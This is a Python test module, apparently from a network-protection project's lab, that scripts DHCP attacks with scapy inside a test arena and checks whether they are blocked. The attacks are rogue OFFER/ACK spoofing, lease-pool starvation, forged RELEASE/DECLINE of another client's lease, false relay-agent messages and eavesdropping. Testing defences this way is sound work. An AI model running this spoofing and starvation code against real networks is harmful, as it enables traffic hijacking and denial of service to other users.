"""DHCP where the network has a trusted server: its clients and its pool, attacked past the relay and through it."""

from __future__ import annotations

import os
import time
from collections.abc import Iterable

from scapy.layers.dhcp import BOOTP, DHCP
from scapy.layers.inet import IP, UDP

from attack.evidence import everything, frames_text, observations
from attack.frames import BROADCAST, Packet, ether
from attack.scenario import ATTACKS, Group
from attack.trial import Trial
from lab.addressing import lease
from lab.errors import LabError
from zethane.service.dhcp_transactions import MAX_PER_CARD

group = Group("dhcp", ATTACKS)
_SERVER, _CLIENT = 67, 68
_NOBODY, _ALL = "0.0.0.0", "255.255.255.255"  # noqa: S104 - RFC 2131 §4.1
_STARVING = 60
_IN_TIME = 4.0
"""Seconds in which a host has to get its lease while others ask for many."""
_BROADCAST_FLAG = 0x8000


def _bootp(kind: str, chaddr: str, options: Iterable[object] = (), **fields: object) -> Packet:
    """A DHCP message (RFC 2131 §2)."""
    card = bytes.fromhex(chaddr.replace(":", ""))
    op = 2 if kind in ("offer", "ack", "nak") else 1
    return BOOTP(op=op, chaddr=card, **fields) / DHCP(options=[("message-type", kind), *options, "end"])


def _asked(mac: str, message: Packet, src: str = _NOBODY, dst: str = _ALL, dst_mac: str = BROADCAST) -> bytes:
    """A client's message in its frame."""
    return bytes(ether(mac, dst_mac) / IP(src=src, dst=dst) / UDP(sport=_CLIENT, dport=_SERVER) / message)


def _xid() -> int:
    return int.from_bytes(os.urandom(4), "big")


def _answer_with(xid: int) -> bytes:
    """How the answers of a transaction begin: op, htype, hlen, hops, xid."""
    return b"\x02\x01\x06\x00" + xid.to_bytes(4, "big")


def _at_server(trial: Trial, token: bytes) -> list[bytes]:
    """The frames with these bytes that arrived at the end of the server's cable."""
    return [frame for frame in trial.arena.tap(trial.arena.dhcp_server).peek() if token in frame]


@group.scenario(
    "dhcp-race",
    reference="RFC 2131 §7; Ettercap's dhcp spoofing",
    tried="OFFER and ACK with the transaction id of a client's question, ahead of the server's, as both",
    success="the client receives one, or not the server's own",
    covers=("dhcp-server",),
    judge=everything,
)
def race(trial: Trial) -> None:
    """No attacker here could know the transaction id: it is given to them."""
    arena, server, client = trial.arena, trial.arena.dhcp_server, trial.arena.dhcp_client
    xid = _xid()
    question = _asked(trial.mac(client), _bootp("discover", trial.mac(client), xid=xid))
    frames: dict[str, list[bytes]] = {attacker: [] for attacker in trial.attackers}
    for attacker in trial.attackers:
        for kind in ("offer", "ack"):
            for whose in (attacker, server):
                token = trial.mark(attacker, f"{kind} by {attacker} as {whose}")
                options = [("server_id", trial.ip(whose)), ("router", trial.ip(attacker)), ("vendor_class_id", token)]
                message = _bootp(
                    kind,
                    trial.mac(client),
                    options,
                    xid=xid,
                    yiaddr=arena.free_address(attacker),
                    siaddr=trial.ip(whose),
                )
                for dst, dst_mac in ((_ALL, BROADCAST), (trial.ip(client), trial.mac(client))):
                    datagram = IP(src=trial.ip(whose), dst=dst) / UDP(sport=_SERVER, dport=_CLIENT) / message
                    frames[attacker].append(bytes(ether(trial.mac(whose), dst_mac) / datagram))
    for attacker in trial.attackers:
        trial.send(attacker, frames[attacker])
    trial.send(client, [question])
    for attacker in trial.attackers:
        trial.send(attacker, frames[attacker])
    if arena.protected:
        arena.settle()
        true = [f for f in arena.tap(client).peek() if _answer_with(xid) in f and f[6:12] == _packed(trial.mac(server))]
        trial.note("the server's own answer", "" if true else f"{client} has not received it")


def _packed(mac: str) -> bytes:
    return bytes.fromhex(mac.replace(":", ""))


@group.scenario(
    "dhcp-pool-exhaustion",
    reference="RFC 2131 §7; dhcpstarv, yersinia",
    tried=f"{_STARVING} clients from each attacker: client identifiers of one card, and cards in frame and message",
    success="more clients reach the server than the port may have, or another host gets no lease meanwhile",
    covers=("dhcp-starvation",),
    judge=observations,
)
def exhaustion(trial: Trial) -> None:
    """Well-formed and true in themselves: nothing but their number gives them away."""
    arena = trial.arena
    arena.dhcp_server  # noqa: B018 - raises where there is none
    client = arena.dhcp_client
    for attacker in trial.attackers:
        for label, changing in (("client identifiers", False), ("cards", True)):
            token = os.urandom(8)
            for _ in range(_STARVING):
                mac = ":".join(f"{byte:02x}" for byte in b"\x02" + os.urandom(5)) if changing else trial.mac(attacker)
                options = [("client_id", b"\0" + os.urandom(8)), ("vendor_class_id", token)]
                trial.send(attacker, [_asked(mac, _bootp("discover", mac, options, xid=_xid()))])
            arena.settle()
            number = len({_client_of(frame) for frame in _at_server(trial, token)})
            allowed = MAX_PER_CARD * arena.cards_of(attacker)
            trial.note(f"{label} by {attacker}", f"{number} clients of {allowed}" if number > allowed else "")
    if arena.protected:
        started = time.monotonic()
        try:
            lease(arena.host(client), "ipv4", 128)
        except LabError as error:
            trial.note(f"a lease for {client}", str(error))
        else:
            seconds = time.monotonic() - started
            trial.note(f"a lease for {client}", f"only after {seconds:.1f} s" if seconds > _IN_TIME else "")


def _client_of(frame: bytes) -> tuple[bytes, bytes]:
    """The card and the transaction of an untagged message: every client in these attacks has its own."""
    at = 14 + 20 + 8
    return frame[at + 28 : at + 34], frame[at + 4 : at + 8]


@group.scenario(
    "dhcp-foreign-release",
    reference="RFC 2131 §4.4.4, §4.4.6",
    tried="RELEASE and DECLINE of the address that a client has leased, by others, as it and as themselves",
    success="one arrives at the server, or the server has the lease no more",
    covers=("dhcp-release", "dhcp-decline"),
    judge=observations,
)
def foreign_release(trial: Trial) -> None:
    """The server would believe it: it looks at the card inside."""
    arena, server, client = trial.arena, trial.arena.dhcp_server, trial.arena.dhcp_client
    leased = trial.ip(client)
    tokens: dict[str, bytes] = {}
    for attacker in trial.attackers:
        for kind in ("decline", "release"):
            for whose in (attacker, client):
                for dst, dst_mac in ((_ALL, BROADCAST), (trial.ip(server), trial.mac(server))):
                    token = tokens[f"{kind} by {attacker} from {whose}'s card to {dst}"] = os.urandom(8)
                    options = [("server_id", trial.ip(server)), ("vendor_class_id", token)]
                    if kind == "decline":
                        options.append(("requested_addr", leased))
                    current, src = (_NOBODY, _NOBODY) if kind == "decline" else (leased, leased)
                    message = _bootp(kind, trial.mac(client), options, ciaddr=current, xid=_xid())
                    trial.send(attacker, [_asked(trial.mac(whose), message, src, dst, dst_mac)])
    arena.settle()
    for label, token in tokens.items():
        found = _at_server(trial, token)
        trial.note(label, f"{frames_text(len(found))} at {server}" if found else "")
    if arena.protected:
        leases = (arena.network.ledger.directory / f"{server}.leases").read_text(encoding="ascii")
        trial.note("the lease", "" if f" {leased} " in leases else f"{server} has no lease of {leased} any more")


@group.scenario(
    "dhcp-false-relay",
    reference="RFC 3046 §5, RFC 1542 §4.1.1",
    tried="questions with the address of a relay agent, with its option 82, with hops, and from a relay agent's port",
    success="one arrives at the server",
    covers=("dhcp-server", "dhcp-starvation"),
    judge=observations,
)
def false_relay(trial: Trial) -> None:
    """A server gives a relay agent addresses of any network, and answers to whatever address it names."""
    arena, server = trial.arena, trial.arena.dhcp_server
    tokens: dict[str, bytes] = {}
    for attacker in trial.attackers:
        mac = trial.mac(attacker)
        circuit = ("relay_agent_information", b"\x01\x04\x00\x00\x00\x01")
        for label, fields, more in (
            ("giaddr", {"giaddr": trial.ip(attacker)}, []),
            ("giaddr of another network", {"giaddr": "192.168.66.1", "hops": 1}, []),
            ("option 82", {}, [circuit]),
            ("giaddr, option 82", {"giaddr": trial.ip(attacker), "hops": 1}, [circuit]),
        ):
            token = tokens[f"{label} by {attacker}"] = os.urandom(8)
            message = _bootp("discover", mac, [("vendor_class_id", token), *more], xid=_xid(), **fields)
            trial.send(attacker, [_asked(mac, message)])
            token = tokens[f"{label} from port {_SERVER} by {attacker}"] = os.urandom(8)
            message = _bootp("discover", mac, [("vendor_class_id", token), *more], xid=_xid(), **fields)
            datagram = IP(src=trial.ip(attacker), dst=trial.ip(server)) / UDP(sport=_SERVER, dport=_SERVER) / message
            trial.send(attacker, [ether(mac, trial.mac(server)) / datagram])
    arena.settle()
    for label, token in tokens.items():
        found = _at_server(trial, token)
        trial.note(label, f"{frames_text(len(found))} at {server}" if found else "")


@group.scenario(
    "dhcp-listening",
    reference="RFC 7844 §3, RFC 2131 §4.1",
    tried="others listen to a client's question, and to the answer that it wants as a broadcast",
    success="any host but the client sees one of both",
    covers=("dhcp-server",),
    judge=everything,
)
def listening(trial: Trial) -> None:
    """What others see tells them who is there, and the transaction id that a false answer needs."""
    arena, server, client = trial.arena, trial.arena.dhcp_server, trial.arena.dhcp_client
    xid = _xid()
    token = trial.mark(client, "the question")
    options = [("vendor_class_id", token)]
    message = _bootp("discover", trial.mac(client), options, xid=xid, flags=_BROADCAST_FLAG)
    trial.send(client, [_asked(trial.mac(client), message)])
    arena.settle()
    answered = [name for name in arena.network.hosts if any(_answer_with(xid) in f for f in arena.tap(name).peek())]
    trial.note("the answer", ", ".join(name for name in answered if name != client))
    if arena.protected:
        trial.note("the server", "" if _at_server(trial, token) else f"{server} has not received the question")
        trial.note("the client", "" if client in answered else f"{client} has not received the answer")
